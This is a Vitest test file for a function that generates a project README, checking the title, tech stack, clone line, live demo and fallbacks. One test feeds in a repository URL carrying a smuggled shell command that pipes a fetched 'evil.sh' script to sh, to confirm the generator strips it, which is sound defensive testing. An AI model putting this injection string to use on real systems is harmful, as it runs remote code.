import { describe, expect, it } from 'vitest';
import { project } from '../../../testing/investor';
import { projectReadme } from './readme';

describe('projectReadme', () => {
  it('builds the template from the title, pitch, stack and repository', () => {
    const readme = projectReadme(project({ liveUrl: 'https://compost.example.com' }), 'Pia Planter');
    expect(readme.startsWith('# Compost Club\n\nNeighbourhood composting made easy\n')).toBe(true);
    expect(readme).toContain('## Tech Stack\n\n- React\n- Node');
    expect(readme).toContain('git clone https://github.com/pia/compost-club');
    expect(readme).toContain('cd compost-club');
    expect(readme).toContain('## Live Demo\n\nhttps://compost.example.com');
    expect(readme).toContain('Built by Pia Planter on SeedMatch.');
  });

  it('falls back when the project has little to say', () => {
    const readme = projectReadme(project({ title: '', pitch: '', techStack: '', githubUrl: null, tags: [] }), '');
    expect(readme).toContain('# Untitled');
    expect(readme).toContain('No description yet.');
    expect(readme).toContain('- Not specified');
    expect(readme).toContain('cd project');
    expect(readme).not.toContain('## Live Demo');
    expect(readme).toContain('Built by Anonymous');
  });

  it('puts only a plain repository address in the clone line', () => {
    const hostile = 'https://github.com/pia/compost;curl${IFS}evil.sh|sh';
    const readme = projectReadme(project({ githubUrl: hostile }), 'Pia Planter');
    expect(readme).not.toContain('curl');
    expect(readme).toContain('git clone <repository-url>/compost-club');
    expect(projectReadme(project({ githubUrl: 'https://github.com/pia/compost-club.git/' }), 'Pia')).toContain(
      'git clone https://github.com/pia/compost-club`',
    );
  });
});
